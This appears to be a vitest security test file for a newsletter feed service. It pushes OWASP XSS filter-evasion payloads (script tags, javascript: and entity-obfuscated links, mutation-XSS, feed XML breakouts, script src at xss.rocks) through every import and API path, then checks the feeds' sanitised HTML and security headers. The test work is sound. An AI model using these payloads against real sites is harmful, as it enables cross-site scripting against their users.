import { type IncomingMessage, type ServerResponse, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { sql } from 'drizzle-orm';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type App, createApp } from '../../src/app.js';
import { selectRows } from '../../src/db/queries/util.js';
import { ALLOWED_TAGS, LINK_REL, isSafeUrl, markdownToHtml, sanitizeFeedHtml } from '../../src/feeds/html.js';
import { ISSUES_FEED_SIZE } from '../../src/http/routes/feeds.js';
import { createRateLimits } from '../../src/http/pipeline/rate-limits.js';
import { createResponseCache } from '../../src/http/pipeline/response-cache.js';
import { CONTENT_SECURITY_POLICY } from '../../src/http/pipeline/security-headers.js';
import { importIssueText } from '../../src/editorial/import.js';
import { authHeader } from '../helpers/auth.js';
import { type TestDb, createTestDb } from '../helpers/db.js';
import { gql } from '../helpers/http.js';

// Hostile text (the OWASP XSS filter-evasion shapes) written through every way
// text gets in — plain-text and Markdown imports, the addPaper / updatePaper /
// updateIssue / createCategory / updateCategory mutations — and read back from
// every HTML output: the issues feed and every category feed, as RSS, Atom and
// JSON Feed. The HTML inside is parsed with a real HTML parser (htmlparser2) and
// must hold nothing but the allow-list: its elements, `href` and `rel` on <a>,
// http(s)/mailto links. Then the headers: nosniff and the CSP on every response
// but GraphiQL's (the same headers from a real server process: tests/e2e/headers.test.ts).

/** [name, text]: OWASP XSS filter-evasion shapes, HTML and Markdown. None holds NUL (refused everywhere: see below). */
const SHAPES: Array<[string, string]> = [
  ['script tag', '<script>alert(1)</script>'],
  ['script, mixed case, with src', '<ScRiPt SRC=http://xss.rocks/xss.js></sCrIpT>'],
  ['script split around a nested tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script with a non-alpha attribute separator', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img javascript: src, unquoted', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['malformed quotes', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['svg onload', '<svg/onload=alert(1)>'],
  ['body onload', '<BODY ONLOAD=alert(1)>'],
  ['iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['link javascript:', '<a href="javascript:alert(1)">plain</a>'],
  [
    'link, decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
  ],
  [
    'link, hex entities without semicolons',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)">hex</a>',
  ],
  ['link, zero-padded entity', '<a href="java&#0000115;cript:alert(1)">pad</a>'],
  ['link, encoded tab', '<a href="jav&#x09;ascript:alert(1)">tab</a>'],
  ['link, encoded newline', '<a href="jav&#x0A;ascript:alert(1)">nl</a>'],
  ['link, literal tab and newline', '<a href="jav\tas\ncript:alert(1)">ws</a>'],
  ['link, leading spaces and a control character', '<a href=" &#14;  javascript:alert(1)">lead</a>'],
  ['link, mixed case scheme', '<a href="JaVaScRiPt:alert(1)">case</a>'],
  ['link, data: URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'],
  ['link, vbscript:', '<a href="vbscript:msgbox(1)">vb</a>'],
  ['link, control character in the scheme', '<a href="java\u0001script:alert(1)">ctl</a>'],
  ['link, JS unicode escape', String.raw`<a href="\u006aavascript:alert(1)">uni</a>`],
  ['link, protocol-relative', '<a href="//evil.example/x">rel</a>'],
  ['style attribute with expression()', '<div style="width: expression(alert(1));">css</div>'],
  ['style element with @import', "<style>@import 'http://xss.rocks/xss.css';</style>"],
  ['object and embed', '<object data="javascript:alert(1)"></object><embed src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">'],
  ['attribute breakout', '"><script>alert(1)</script>'],
  ['event attribute breakout', "' onmouseover='alert(1)' x='"],
  ['fullwidth brackets', '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E'],
  ['HTML comment', '<!--<script>alert(1)</script>-->'],
  ['conditional comment', "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"],
  ['CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
  ['CDATA breakout of the feed XML', ']]><script>alert(1)</script><![CDATA['],
  ['element breakout of the feed XML', '</title><script>alert(1)</script><title>'],
  ['mutation XSS through math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mutation XSS through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['Markdown link javascript:', '[md](javascript:alert(1))'],
  ['Markdown link, entity in the scheme', '[md-ent](jav&#x09;ascript:alert(1))'],
  ['Markdown link, colon as an entity', '[md-colon](javascript&#58;alert(1))'],
  ['Markdown link in brackets, mixed case', '[md-angle](<JaVaScRiPt:alert(1)>)'],
  ['Markdown link, control character', '[md-ctl](java\u000bscript:alert(1))'],
  ['Markdown link, protocol-relative', '[md-rel](//evil.example/y)'],
  ['Markdown reference link', '[md-ref][r]\n\n[r]: javascript:alert(1)'],
  ['Markdown image javascript:', '![img](javascript:alert(1))'],
  ['Markdown image data:', '![img-data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['autolink javascript:', '<javascript:alert(1)>'],
  ['autolink VBSCRIPT:', '<VBSCRIPT:msgbox(1)>'],
];

/** The NUL-byte shapes: refused by every write path; checked on the renderer alone. */
const NUL_SHAPES = [
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<a href="java\u0000script:alert(1)">nul</a>',
  '[nul](java\u0000script:alert(1))',
];

// ---------------------------------------------------------------------------
// The checker: an HTML fragment holds nothing outside the allow-list
// ---------------------------------------------------------------------------

const ALLOWED = new Set(ALLOWED_TAGS);
const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'mailto:']);
const BASE = 'https://base.invalid/';

/**
 * Where a browser would go: the URL parser drops leading/trailing C0 controls and
 * spaces and every tab/newline, and resolves against the page. A link must be
 * http(s)/mailto, and one without a scheme must stay on the page's host.
 */
function badHref(href: string): string | null {
  const cleaned = href.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '').replace(/[\t\n\r]/g, '');
  let url: URL;
  try {
    url = new URL(cleaned, BASE);
  } catch {
    return `unparseable href ${JSON.stringify(href)}`;
  }
  if (!SAFE_PROTOCOLS.has(url.protocol)) return `href with scheme ${url.protocol} (${JSON.stringify(href)})`;
  if (!/^(https?|mailto):/i.test(cleaned) && url.host !== new URL(BASE).host)
    return `href leaving the site without a scheme (${JSON.stringify(href)})`;
  return null;
}

interface Checked {
  problems: string[];
  /** The text a reader sees (entities decoded). */
  text: string;
}

/**
 * Walks an HTML fragment with htmlparser2 (decoding entities, as a browser does)
 * and lists what is outside the allow-list; `textOnly`: no element at all.
 */
function checkHtml(html: string, textOnly = false): Checked {
  const problems: string[] = [];
  let text = '';
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (textOnly) problems.push(`element <${name}> in a text field`);
        else if (!ALLOWED.has(name)) problems.push(`element <${name}>`);
        for (const [attr, value] of Object.entries(attribs)) {
          if (name !== 'a' || (attr !== 'href' && attr !== 'rel')) problems.push(`attribute ${attr} on <${name}>`);
          else if (attr === 'rel' && value !== LINK_REL) problems.push(`rel="${value}"`);
          else if (attr === 'href') {
            const bad = badHref(value);
            if (bad) problems.push(bad);
          }
        }
        if (name === 'a' && !textOnly && attribs.rel !== LINK_REL) problems.push('<a> without its rel');
      },
      ontext(data) {
        text += data;
      },
      oncomment(data) {
        problems.push(`comment <!--${data}-->`);
      },
      oncdatastart() {
        problems.push('CDATA section');
      },
      onprocessinginstruction(name) {
        problems.push(`processing instruction or declaration ${name}`);
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return { problems, text };
}

// ---------------------------------------------------------------------------
// The feeds: XML structure, HTML fields, text fields
// ---------------------------------------------------------------------------

const RSS_ELEMENTS = new Set([
  '?xml',
  'rss',
  'channel',
  'title',
  'link',
  'description',
  'lastBuildDate',
  'docs',
  'language',
  'atom:link',
  'item',
  'guid',
  'pubDate',
  'content:encoded',
  'category',
]);
const ATOM_ELEMENTS = new Set([
  '?xml',
  'feed',
  'id',
  'title',
  'updated',
  'link',
  'subtitle',
  'author',
  'name',
  'uri',
  'entry',
  'summary',
  'content',
  'published',
  'category',
]);
const XML_ATTRIBUTES = new Set([
  'version',
  'encoding',
  'xmlns',
  'xmlns:dc',
  'xmlns:content',
  'xmlns:atom',
  'href',
  'rel',
  'type',
  'isPermaLink',
  'term',
  'label',
]);

const xmlParser = (arrays: string[]) =>
  new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: '@_',
    parseTagValue: false,
    parseAttributeValue: false,
    isArray: (name) => arrays.includes(name),
  });
const rssParser = xmlParser(['item', 'category', 'atom:link']);
const atomParser = xmlParser(['entry', 'category', 'link']);

/** Every element and attribute name of a parsed XML tree is one the feed format uses: nothing broke out of a field. */
function xmlStructureProblems(node: unknown, allowed: Set<string>, at = ''): string[] {
  if (Array.isArray(node)) return node.flatMap((n) => xmlStructureProblems(n, allowed, at));
  if (typeof node !== 'object' || node === null) return [];
  const problems: string[] = [];
  for (const [key, value] of Object.entries(node)) {
    if (key === '#text') continue;
    if (key.startsWith('@_')) {
      if (!XML_ATTRIBUTES.has(key.slice(2))) problems.push(`XML attribute ${key.slice(2)} in ${at}`);
    } else if (!allowed.has(key)) problems.push(`XML element <${key}> in ${at}`);
    else problems.push(...xmlStructureProblems(value, allowed, `${at}/${key}`));
  }
  return problems;
}

const textOf = (node: unknown): string =>
  typeof node === 'object' && node !== null
    ? String((node as { '#text'?: unknown })['#text'] ?? '')
    : String(node ?? '');

interface FeedCheck {
  problems: string[];
  /** What readers see: the text of every field, HTML decoded. */
  visible: string;
}

function checkFeed(format: 'rss' | 'atom' | 'json', body: string, where: string): FeedCheck {
  const problems: string[] = [];
  const visible: string[] = [];
  const html = (value: unknown, field: string, textOnly = false) => {
    const checked = checkHtml(String(value ?? ''), textOnly);
    problems.push(...checked.problems.map((p) => `${where} ${field}: ${p}`));
    visible.push(checked.text);
  };
  const plain = (value: unknown) => visible.push(String(value ?? ''));
  const link = (value: unknown, field: string) => {
    const v = String(value ?? '');
    if (!/^https?:\/\//.test(v)) problems.push(`${where} ${field}: not an http(s) URL: ${JSON.stringify(v)}`);
  };

  if (format === 'json') {
    const feed = JSON.parse(body);
    plain(feed.title);
    plain(feed.description);
    link(feed.home_page_url, 'home_page_url');
    link(feed.feed_url, 'feed_url');
    for (const item of feed.items) {
      // JSON Feed: title, summary and tags are plain text; content_html is HTML.
      plain(item.title);
      plain(item.summary);
      for (const tag of item.tags ?? []) plain(tag);
      link(item.url, 'item url');
      html(item.content_html, 'content_html');
    }
    return { problems, visible: visible.join('\n') };
  }

  const valid = XMLValidator.validate(body);
  if (valid !== true) return { problems: [`${where}: not well-formed XML: ${JSON.stringify(valid.err)}`], visible: '' };
  const doc = (format === 'rss' ? rssParser : atomParser).parse(body);
  problems.push(
    ...xmlStructureProblems(doc, format === 'rss' ? RSS_ELEMENTS : ATOM_ELEMENTS).map((p) => `${where}: ${p}`),
  );
  if (format === 'rss') {
    const channel = doc.rss.channel;
    // Plain text (XML text, escaped by the feed library).
    plain(textOf(channel.title));
    plain(textOf(channel.description));
    link(textOf(channel.link), 'channel link');
    for (const item of channel.item ?? []) {
      // Item titles and descriptions are HTML-escaped text (RSS readers read them as HTML): no element at all.
      html(textOf(item.title), 'item title', true);
      html(textOf(item.description), 'item description', true);
      html(textOf(item['content:encoded']), 'content:encoded');
      for (const c of item.category ?? []) plain(textOf(c));
      link(textOf(item.link), 'item link');
    }
  } else {
    const feed = doc.feed;
    plain(textOf(feed.title));
    plain(textOf(feed.subtitle));
    for (const l of feed.link ?? []) link(l['@_href'], 'feed link');
    for (const entry of feed.entry ?? []) {
      for (const field of ['title', 'summary'] as const) {
        if (entry[field]?.['@_type'] !== 'html') problems.push(`${where} entry ${field}: type is not html`);
        html(textOf(entry[field]), `entry ${field}`, true);
      }
      if (entry.content?.['@_type'] !== 'html') problems.push(`${where} entry content: type is not html`);
      html(textOf(entry.content), 'entry content');
      for (const c of entry.category ?? []) plain(c['@_label']);
      for (const l of entry.link ?? []) link(l['@_href'], 'entry link');
    }
  }
  return { problems, visible: visible.join('\n') };
}

// ---------------------------------------------------------------------------
// Writing the shapes through every path
// ---------------------------------------------------------------------------

type PathName = 'text' | 'markdown' | 'api';
const PATHS: PathName[] = ['text', 'markdown', 'api'];

/** A token naming (path, shape): it survives every rendering, so it shows that the field arrived. */
const mark = (p: PathName, i: number) => `zq${p[0]}${String(i).padStart(2, '0')}`;
const oneLine = (s: string) => s.replace(/[\r\n]+/g, ' ');
const categoryName = (p: PathName, i: number) => `${mark(p, i)} ${oneLine(SHAPES[i]![1])}`;
/** Paragraphs of a Markdown body: the marker, then the shape as written. */
const body = (p: PathName, i: number, what: string) => `${mark(p, i)} ${what}\n\n${SHAPES[i]![1]}`;

/** Shape indexes in groups small enough for one edition's title (500 characters). */
const GROUPS: number[][] = (() => {
  const groups: number[][] = [[]];
  let size = 0;
  SHAPES.forEach(([, text], i) => {
    const len = oneLine(text).length + 8;
    if (size + len > 460) {
      groups.push([]);
      size = 0;
    }
    groups.at(-1)!.push(i);
    size += len;
  });
  return groups;
})();

const joined = (p: PathName, group: number[]) => group.map((i) => `${mark(p, i)} ${oneLine(SHAPES[i]![1])}`).join(' ');
const TITLE = 'Important LLM Papers for the Week';
const weekOf = (p: PathName, g: number) => {
  const d = new Date(Date.UTC(2024, 0, 1 + 7 * (PATHS.indexOf(p) * GROUPS.length + g)));
  return d.toISOString().slice(0, 10);
};
const issueSlug = (p: PathName, g: number) => `zq${p[0]}-g${g}`;

/** A plain-text edition (the published layout, docs/import-format.md) with the shapes in every field. */
function textIssue(group: number[]): string {
  const p: PathName = 'text';
  const aside = `${mark(p, group[0]!)} aside ${oneLine(SHAPES[group[0]!]![1])}`;
  const lines = [`${TITLE} ${joined(p, group)}`, joined(p, group)];
  for (const i of group) lines.push(`${mark(p, i)} intro`, ...SHAPES[i]![1].split('\n'));
  lines.push('Table of Contents:', ...group.map((i) => categoryName(p, i)), aside, aside);
  for (const i of group) lines.push(`${mark(p, i)} aside body`, ...SHAPES[i]![1].split('\n'));
  group.forEach((i, k) => {
    lines.push(
      `${k + 1}. ${categoryName(p, i)}`,
      `${k + 1}.1. ${mark(p, i)} ${oneLine(SHAPES[i]![1])}`,
      `${mark(p, i)} summary`,
      ...SHAPES[i]![1].split('\n'),
    );
  });
  for (const i of group) lines.push(`Subscribe to the newsletter ${mark(p, i)} ${oneLine(SHAPES[i]![1])}`);
  return `${lines.join('\n')}\n`;
}

/** A Markdown edition (the export format) with the shapes in every field, raw (not escaped as the exporter would). */
function markdownIssue(group: number[], g: number): string {
  const p: PathName = 'markdown';
  const start = weekOf(p, g);
  const end = new Date(Date.parse(start) + 6 * 86_400_000).toISOString().slice(0, 10);
  const aside = `${mark(p, group[0]!)} aside ${oneLine(SHAPES[group[0]!]![1])}`;
  const blocks = [`# ${TITLE} ${joined(p, group)}\n<!-- week: ${start}..${end} -->`, joined(p, group)];
  for (const i of group) blocks.push(body(p, i, 'intro'));
  blocks.push(`## Table of Contents\n\n${[...group.map((i) => `- ${categoryName(p, i)}`), `- ${aside}`].join('\n')}`);
  blocks.push(`## ${aside}`, ...group.map((i) => body(p, i, 'aside body')));
  group.forEach((i, k) => {
    const shape = SHAPES[i]![1];
    // The metadata comments carry the shape too, where a comment can hold it.
    const meta = /-->|\n/.test(shape) ? [] : [`<!-- url: https://example.org/${shape} -->`, `<!-- arxiv: ${shape} -->`];
    blocks.push(
      `## ${k + 1}. ${categoryName(p, i)}`,
      [`### ${k + 1}.1. ${mark(p, i)} ${oneLine(shape)}`, ...meta].join('\n'),
      body(p, i, 'summary'),
    );
  });
  blocks.push('---', ...group.map((i) => body(p, i, 'outro')));
  return `${blocks.join('\n\n')}\n`;
}

/** Hostile but valid http(s) links for the `url` field (the API checks only that it parses as http(s)). */
const hostileUrl = (i: number) =>
  [
    `https://example.org/?q="><script>alert(${i})</script>`,
    `https://example.org/#<img src=x onerror=alert(${i})>`,
    `http://example.org/a b' onmouseover='alert(${i})`,
  ][i % 3]!;

let tdb: TestDb;
let app: App;
let editor: Record<string, string>;
/** Every (path, shape) written: its marker must show in the outputs. */
const written: Array<{ path: PathName; i: number }> = [];

/** What the writes read of a mutation's result: the ids and versions they go on with, or a UserError's message. */
interface MutationResult {
  message?: string;
  category?: { id: string };
  issue?: { id: string; version: number };
  paper?: { id: string; version: number };
}

async function mutate(query: string, variables: Record<string, unknown>): Promise<MutationResult> {
  const res = await gql<Record<string, MutationResult>>(app, query, variables, editor);
  expect(res.body.errors, JSON.stringify(res.body.errors)).toBeUndefined();
  const result = Object.values(res.body.data ?? {})[0]!;
  expect(result.message, `${query}: ${result.message}`).toBeUndefined();
  return result;
}

const CREATE_CATEGORY = `mutation($input: CreateCategoryInput!) { createCategory(input: $input) {
  ... on CreateCategoryPayload { category { id } } ... on UserError { message } } }`;
const UPDATE_CATEGORY = `mutation($input: UpdateCategoryInput!) { updateCategory(input: $input) {
  ... on UpdateCategoryPayload { category { id } } ... on UserError { message } } }`;
const CREATE_ISSUE = `mutation($input: CreateIssueInput!) { createIssue(input: $input) {
  ... on CreateIssuePayload { issue { id version } } ... on UserError { message } } }`;
const UPDATE_ISSUE = `mutation($input: UpdateIssueInput!) { updateIssue(input: $input) {
  ... on UpdateIssuePayload { issue { id version } } ... on UserError { message } } }`;
const PUBLISH_ISSUE = `mutation($input: PublishIssueInput!) { publishIssue(input: $input) {
  ... on PublishIssuePayload { issue { id } } ... on UserError { message } } }`;
const ADD_PAPER = `mutation($input: AddPaperInput!) { addPaper(input: $input) {
  ... on AddPaperPayload { paper { id version } } ... on UserError { message } } }`;
const UPDATE_PAPER = `mutation($input: UpdatePaperInput!) { updatePaper(input: $input) {
  ... on UpdatePaperPayload { paper { id version } } ... on UserError { message } } }`;

/** The API path: categories, then an edition per group, its papers added and updated, published. */
async function writeThroughApi(group: number[], g: number): Promise<void> {
  const p: PathName = 'api';
  for (const i of group) {
    const created = await mutate(CREATE_CATEGORY, {
      input: { slug: mark(p, i), name: `${mark(p, i)} placeholder`, description: `${mark(p, i)} ${SHAPES[i]![1]}` },
    });
    await mutate(UPDATE_CATEGORY, { input: { id: created.category!.id, name: categoryName(p, i) } });
  }
  const issue = (
    await mutate(CREATE_ISSUE, {
      input: { slug: issueSlug(p, g), title: `${TITLE} placeholder`, weekStart: weekOf(p, g) },
    })
  ).issue!;
  await mutate(UPDATE_ISSUE, {
    input: {
      id: issue.id,
      version: issue.version,
      title: `${TITLE} ${joined(p, group)}`,
      subtitle: joined(p, group),
      intro: group.map((i) => body(p, i, 'intro')).join('\n\n'),
      outro: group.map((i) => body(p, i, 'outro')).join('\n\n'),
    },
  });
  for (const i of group) {
    const shape = SHAPES[i]![1];
    await mutate(ADD_PAPER, {
      input: {
        issueId: issue.id,
        category: mark(p, i),
        title: `${mark(p, i)} ${oneLine(shape)}`,
        summary: body(p, i, 'summary'),
        url: hostileUrl(i),
      },
    });
    const added = await mutate(ADD_PAPER, {
      input: { issueId: issue.id, category: mark(p, i), title: `${mark(p, i)} placeholder` },
    });
    await mutate(UPDATE_PAPER, {
      input: {
        id: added.paper!.id,
        version: added.paper!.version,
        title: `${mark(p, i)} updated ${oneLine(shape)}`,
        summary: body(p, i, 'updated summary'),
      },
    });
  }
  await mutate(PUBLISH_ISSUE, { input: { id: issue.id } });
}

async function get(url: string, init: RequestInit = {}) {
  const res = await app.fetch(`http://localhost${url}`, init);
  return { res, body: await res.text() };
}

beforeAll(async () => {
  tdb = await createTestDb();
  app = createApp({ db: tdb.db });
  editor = await authHeader(tdb.db);
  expect(GROUPS.length * PATHS.length).toBeLessThanOrEqual(ISSUES_FEED_SIZE);
  for (const [g, group] of GROUPS.entries()) {
    const text = await importIssueText(tdb.db, textIssue(group), {
      format: 'text',
      publish: true,
      weekStart: weekOf('text', g),
      slug: issueSlug('text', g),
    });
    expect(text.document.sections).toHaveLength(group.length);
    expect(text.document.asides).toHaveLength(1);
    expect(text.document.outro).not.toBe('');
    const md = await importIssueText(tdb.db, markdownIssue(group, g), {
      format: 'markdown',
      publish: true,
      slug: issueSlug('markdown', g),
    });
    expect(md.document.sections).toHaveLength(group.length);
    expect(md.document.asides).toHaveLength(1);
    await writeThroughApi(group, g);
    for (const path of PATHS) for (const i of group) written.push({ path, i });
  }
}, 300_000);

afterAll(async () => {
  await tdb?.destroy();
});

// ---------------------------------------------------------------------------

describe('the checker', () => {
  it('finds what is outside the allow-list (so that its silence means something)', () => {
    expect(
      checkHtml('<p>ok <a href="https://x.example/" rel="nofollow noopener noreferrer">x</a></p>').problems,
    ).toEqual([]);
    for (const bad of [
      '<img src=x>',
      '<p onclick="x">a</p>',
      '<a href="javascript:alert(1)" rel="nofollow noopener noreferrer">a</a>',
      '<a href="jav&#x09;ascript:alert(1)" rel="nofollow noopener noreferrer">a</a>',
      '<a href="//evil.example/" rel="nofollow noopener noreferrer">a</a>',
      '<a href="https://x.example/">no rel</a>',
      '<!-- c -->',
      '<svg><![CDATA[x]]></svg>',
    ]) {
      expect(checkHtml(bad).problems, bad).not.toEqual([]);
    }
    expect(checkHtml('<em>a</em>', true).problems).not.toEqual([]);
    expect(SHAPES.length).toBeGreaterThanOrEqual(20);
  });
});

describe('the renderer and the sanitizer alone', () => {
  it.each(SHAPES)('Markdown with %s renders to allow-listed HTML', (_name, shape) => {
    expect(checkHtml(markdownToHtml(`Before ${shape} after\n\n${shape}\n\n- ${shape}\n\n> ${shape}`)).problems).toEqual(
      [],
    );
  });

  it.each(SHAPES)('raw HTML with %s, given to the sanitizer directly, comes out allow-listed', (_name, shape) => {
    expect(checkHtml(sanitizeFeedHtml(shape)).problems).toEqual([]);
    expect(checkHtml(sanitizeFeedHtml(`<p>${shape}</p><ul><li>${shape}</li></ul>`)).problems).toEqual([]);
  });

  it('NUL bytes: safe in the renderer and the sanitizer, refused by the API and the importer', async () => {
    for (const shape of NUL_SHAPES) {
      expect(checkHtml(markdownToHtml(shape)).problems).toEqual([]);
      expect(checkHtml(sanitizeFeedHtml(shape)).problems).toEqual([]);
      await expect(
        importIssueText(tdb.db, `${TITLE}\n1. Cat\n1.1. T\n${shape}\n`, {
          format: 'text',
          weekStart: '2030-01-07',
          dryRun: true,
        }),
      ).rejects.toThrow(/NUL|U\+0000/i);
      const res = await gql<Record<string, MutationResult>>(
        app,
        CREATE_CATEGORY,
        { input: { slug: 'nul', name: shape } },
        editor,
      );
      expect(res.body.data?.createCategory?.message).toMatch(/NUL/);
    }
  });

  it('keeps the allowed markup, with rel on links; turns images into links; drops javascript: and entity-hidden schemes', () => {
    const rel = `rel="${LINK_REL}"`;
    expect(markdownToHtml('*a* **b** `c`\n\n1. x\n2. y\n\n> q\n\n```\npre\n```\n\n## H\n\n---')).toBe(
      '<p><em>a</em> <strong>b</strong> <code>c</code></p>\n<ol>\n<li>x</li>\n<li>y</li>\n</ol>\n<blockquote>\n<p>q</p>\n</blockquote>\n<pre><code>pre\n</code></pre>\n<h2>H</h2>\n<hr />\n',
    );
    expect(markdownToHtml('[a](https://a.example/) [m](mailto:x@y.example) <https://b.example/>')).toBe(
      `<p><a href="https://a.example/" ${rel}>a</a> <a href="mailto:x@y.example" ${rel}>m</a> <a href="https://b.example/" ${rel}>https://b.example/</a></p>\n`,
    );
    expect(markdownToHtml('![chart](https://a.example/c.png) ![x](javascript:alert(1))')).toBe(
      `<p><a href="https://a.example/c.png" ${rel}>chart</a> x</p>\n`,
    );
    // Before the sanitizer, marked wrote these hrefs as given, and a browser decodes the entity: javascript:.
    expect(markdownToHtml('[a](jav&#x09;ascript:alert(1)) [b](javascript&#58;alert(1))')).toBe('<p>a b</p>\n');
    for (const unsafe of [
      'javascript:x',
      ' JavaScript:x',
      'jav\tascript:x',
      'jav&#x09;ascript:x',
      'javascript&#58;x',
      '&#x6A;avascript:x',
      'data:text/html,x',
      'vbscript:x',
    ]) {
      expect(isSafeUrl(unsafe), unsafe).toBe(false);
    }
    for (const safe of [
      'https://x.example/?a=1&b=2',
      'http://x',
      'mailto:a@b',
      '/issues/x.md',
      '#top',
      '?q=a:b&c',
      'page.md',
    ]) {
      expect(isSafeUrl(safe), safe).toBe(true);
    }
  });
});

describe('every HTML output, after every write path', () => {
  const formats = ['rss', 'atom', 'json'] as const;

  it.each(formats)('the issues feed (%s) holds only allow-listed HTML, and every shape arrived', async (format) => {
    const { res, body } = await get(`/feeds/issues.${format}`);
    expect(res.status).toBe(200);
    const checked = checkFeed(format, body, `issues.${format}`);
    expect(checked.problems).toEqual([]);
    const missing = written
      .filter(({ path, i }) => !checked.visible.includes(mark(path, i)))
      .map(({ path, i }) => mark(path, i));
    expect(missing).toEqual([]);
    // The shapes are shown as text, not dropped: e.g. the script tag written in summaries.
    expect(checked.visible).toContain('<script>alert(1)</script>');
  });

  it('every category feed, in each format, holds only allow-listed HTML', async () => {
    const categories = await selectRows<{ slug: string; name: string }>(
      tdb.db,
      sql`SELECT slug, name FROM categories ORDER BY slug`,
    );
    expect(categories.length).toBe(written.length);
    const problems: string[] = [];
    for (const { slug, name } of categories) {
      const marker = /^zq[tma]\d\d/.exec(name)![0];
      for (const format of formats) {
        const { res, body } = await get(`/feeds/categories/${slug}.${format}`);
        if (res.status !== 200) {
          problems.push(`${slug}.${format}: status ${res.status}`);
          continue;
        }
        const checked = checkFeed(format, body, `${slug}.${format}`);
        problems.push(...checked.problems);
        if (!checked.visible.includes(marker)) problems.push(`${slug}.${format}: ${marker} missing`);
        // One paper per category from the imports, two from the API.
        const entries =
          format === 'json'
            ? JSON.parse(body).items.length
            : (body.match(format === 'rss' ? /<item>/g : /<entry>/g) ?? []).length;
        if (entries !== (marker[2] === 'a' ? 2 : 1)) problems.push(`${slug}.${format}: ${entries} entries`);
      }
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it('the Markdown pages of hostile editions are text/markdown, never HTML', async () => {
    for (const path of PATHS) {
      const page = await get(`/issues/${issueSlug(path, 0)}.md`);
      expect(page.res.status).toBe(200);
      expect(page.res.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
      expect(page.res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(page.res.headers.get('content-security-policy')).toBe(CONTENT_SECURITY_POLICY);
      const paper = await get(`/issues/${issueSlug(path, 0)}/papers/1.1.md`);
      expect(paper.res.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
      expect(paper.res.headers.get('content-security-policy')).toBe(CONTENT_SECURITY_POLICY);
    }
  });
});

// ---------------------------------------------------------------------------
// Headers
// ---------------------------------------------------------------------------

function expectLocked(res: { headers: Headers }, what: string) {
  expect(res.headers.get('x-content-type-options'), what).toBe('nosniff');
  expect(res.headers.get('content-security-policy'), what).toBe(CONTENT_SECURITY_POLICY);
}

describe('nosniff and the CSP (app)', () => {
  it('are on GraphQL responses, errors, feeds, Markdown pages, 404s and preflights', async () => {
    const post = (body: string, headers: Record<string, string> = {}) =>
      app.fetch('http://localhost/graphql', {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body,
      });
    const cases: Array<[string, Response | Promise<Response>, number]> = [
      ['GraphQL POST', post(JSON.stringify({ query: '{ __typename }' })), 200],
      [
        'GraphQL GET',
        app.fetch('http://localhost/graphql?query=%7B__typename%7D', {
          headers: { accept: 'application/graphql-response+json', 'x-graphql-yoga-csrf': '1' },
        }),
        200,
      ],
      ['GraphQL GET without the CSRF header (403)', app.fetch('http://localhost/graphql?query=%7B__typename%7D'), 403],
      ['GraphQL error in a 200', post(JSON.stringify({ query: '{ issue(slug: "nope") { id } }' })), 200],
      ['malformed JSON (400)', post('{"query":'), 400],
      [
        'invalid query (400)',
        post(JSON.stringify({ query: '{ nope' }), { accept: 'application/graphql-response+json' }),
        400,
      ],
      [
        'bad token (401)',
        post(JSON.stringify({ query: '{ __typename }' }), { authorization: 'Bearer llmp_nope' }),
        401,
      ],
      [
        'CORS preflight',
        app.fetch('http://localhost/graphql', {
          method: 'OPTIONS',
          headers: { origin: 'https://a.example', 'access-control-request-method': 'POST' },
        }),
        204,
      ],
      ['feed', app.fetch('http://localhost/feeds/issues.rss'), 200],
      ['unknown category feed (404)', app.fetch('http://localhost/feeds/categories/nope.atom'), 404],
      ['feed POST (405)', app.fetch('http://localhost/feeds/issues.json', { method: 'POST', body: 'x' }), 405],
      ['Markdown page', app.fetch(`http://localhost/issues/${issueSlug('text', 0)}.md`), 200],
      ['unknown Markdown page (404)', app.fetch('http://localhost/issues/nope.md'), 404],
      ['unknown path (404)', app.fetch('http://localhost/nope'), 404],
    ];
    for (const [what, pending, status] of cases) {
      const res = await pending;
      expect(res.status, what).toBe(status);
      expectLocked(res, what);
    }
    const feed = await app.fetch('http://localhost/feeds/issues.atom');
    const notModified = await app.fetch('http://localhost/feeds/issues.atom', {
      headers: { 'if-none-match': feed.headers.get('etag')! },
    });
    expect(notModified.status).toBe(304);
    expectLocked(notModified, '304');
  });

  it('are recorded with the responses the response tier replays before Yoga', async () => {
    const limits = createRateLimits({
      rateLimit: { points: 1_000_000, durationSec: 3600, maxInFlight: 100 },
      trustProxy: false,
    });
    const cache = createResponseCache({ ttlMs: 60_000 });
